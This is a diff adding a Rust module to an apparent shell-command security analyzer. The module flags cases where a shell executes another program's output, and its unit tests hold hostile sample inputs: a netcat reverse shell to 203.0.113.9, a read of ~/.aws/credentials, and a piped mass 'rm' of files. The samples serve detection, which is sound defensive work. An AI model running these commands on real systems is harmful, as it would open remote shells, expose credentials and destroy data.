@@ -1,0 +1,141 @@
+//! Commands a shell reads from another program's output (`journalctl … |
+//! sh`, `ls | sed 's/^/rm /' | bash`): what runs is whatever that program
+//! printed, which the call does not show. Printed literals (`echo 'make
+//! test' | sh`) are analyzed as the commands they are, and a script read
+//! from a file (`cat install.sh | bash`) is judged like `bash install.sh`.
+//! Downloads and decoded payloads piped into a shell have their own rules.
+
+use super::analyze::{Analysis, Analyzer};
+use super::effects::Effect;
+use super::escapes::SHELLS;
+use crate::detectors::shell::{Cmd, Script};
+
+/// Programs whose output into a shell is the content of the files they
+/// read: the same as running those files as scripts.
+const FILE_READERS: &[&str] = &["cat", "head", "tail", "tac"];
+
+/// Producers other rules already judge when piped into a shell.
+const JUDGED_ELSEWHERE: &[&str] = &[
+    "curl",
+    "wget",
+    "iwr",
+    "invoke-webrequest",
+    "irm",
+    "invoke-restmethod",
+    "aria2c",
+    "base64",
+    "base32",
+    "xxd",
+    "openssl",
+    "gzip",
+    "gunzip",
+    "zcat",
+    "bzip2",
+    "xz",
+    "uudecode",
+    "rev",
+];
+
+impl Analyzer<'_> {
+    pub(super) fn generated_commands(&self, script: &Script, out: &mut Analysis, depth: u8) {
+        for c in &script.commands {
+            if !reads_commands_from_stdin(c) || c.sub_args {
+                continue;
+            }
+            for &j in &c.sources {
+                let Some(p) = script.commands.get(j) else {
+                    continue;
+                };
+                let program = p.program.as_str();
+                if SHELLS.contains(&program) && p.sources.is_empty() {
+                    // `sh -c '… | sh'`: the wrapper, not a producer.
+                    continue;
+                }
+                if matches!(program, "echo" | "printf") && p.sources.is_empty() && !p.sub_args {
+                    if depth < 3 {
+                        self.shell(&literal(p), out, depth + 1);
+                    }
+                    continue;
+                }
+                let reads_files = FILE_READERS.contains(&program)
+                    && p.sources.is_empty()
+                    && p.args.iter().any(|a| !a.starts_with('-'));
+                if reads_files || JUDGED_ELSEWHERE.contains(&program) {
+                    continue;
+                }
+                out.push(
+                    Effect::Shell,
+                    "generated_commands",
+                    format!("A shell runs commands that `{program}` printed"),
+                    &c.line,
+                );
+                break;
+            }
+        }
+    }
+}
+
+/// A shell with no script and no `-c`: it runs what arrives on its input
+/// (`-s` takes the arguments after it as parameters, not a script).
+fn reads_commands_from_stdin(c: &Cmd) -> bool {
+    if !SHELLS.contains(&c.program.as_str()) || c.sources.is_empty() {
+        return false;
+    }
+    let mut stdin = true;
+    for a in &c.args {
+        if a == "-s" || a == "--" {
+            break;
+        }
+        if a.starts_with('-') && !a.starts_with("--") && a.contains('c') {
+            stdin = false;
+            break;
+        }
+        if !a.starts_with('-') && !a.starts_with('+') {
+            stdin = false;
+            break;
+        }
+    }
+    stdin
+}
+
+/// What `echo` or `printf` prints, near enough to analyze as commands.
+fn literal(p: &Cmd) -> String {
+    let words: Vec<&str> = p
+        .args
+        .iter()
+        .map(String::as_str)
+        .skip_while(|a| p.program == "echo" && matches!(*a, "-e" | "-n" | "-ne" | "-en" | "-E"))
+        .collect();
+    words.join(" ").replace("\\n", "\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tests_support::{attack, flows};
+    use super::Effect;
+
+    #[test]
+    fn a_program_output_run_by_a_shell_is_a_shell() {
+        attack("journalctl -n 5 --no-pager | sh", Effect::Shell);
+        attack("ls *.txt | sed 's/^/rm /' | bash", Effect::Shell);
+        attack("history | tail -1 | bash -s", Effect::Shell);
+    }
+
+    #[test]
+    fn printed_literals_are_judged_as_the_commands_they_are() {
+        flows("echo 'cargo test' | sh");
+        flows("cat scripts/install.sh | bash");
+        attack("echo 'cat ~/.aws/credentials' | sh", Effect::CredentialRead);
+        attack(
+            "printf 'nc -e /bin/sh 203.0.113.9 4444\\n' | sh",
+            Effect::Shell,
+        );
+    }
+
+    #[test]
+    fn shells_with_their_own_script_are_not_fed_commands() {
+        flows("git diff --stat | bash -c 'wc -l'");
+        flows("ls | bash scripts/count.sh");
+        flows("ls src | grep -c rs");
+    }
+}
